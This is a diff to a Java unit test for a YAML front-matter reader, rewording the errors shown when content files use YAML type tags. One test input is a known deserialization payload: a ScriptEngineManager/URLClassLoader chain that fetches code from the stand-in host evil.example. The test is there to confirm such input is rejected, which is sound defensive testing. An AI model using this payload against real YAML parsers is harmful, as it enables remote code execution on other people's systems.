@@ -146,8 +146,8 @@ class YamlReaderTest {
                 """);
         assertThat(node).isEmpty();
         assertThat(Trap.MADE).hasValue(0);
-        assertThat(messages()).containsExactly("content/articles/bai.md:2:4: error: not valid YAML: Global tag is not "
-                + "allowed: tag:yaml.org,2002:vn.gazette.config.YamlReaderTest$Trap");
+        assertThat(messages()).containsExactly("content/articles/bai.md:2:4: error: YAML type tags such as "
+                + "!!vn.gazette.config.YamlReaderTest$Trap are not allowed: write the plain value");
     }
 
     @Test
@@ -156,8 +156,8 @@ class YamlReaderTest {
                 title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]
                 """);
         assertThat(node).isEmpty();
-        assertThat(messages()).containsExactly("content/articles/bai.md:1:8: error: not valid YAML: Global tag is not "
-                + "allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
+        assertThat(messages()).containsExactly("content/articles/bai.md:1:8: error: YAML type tags such as "
+                + "!!javax.script.ScriptEngineManager are not allowed: write the plain value");
     }
 
     @Test
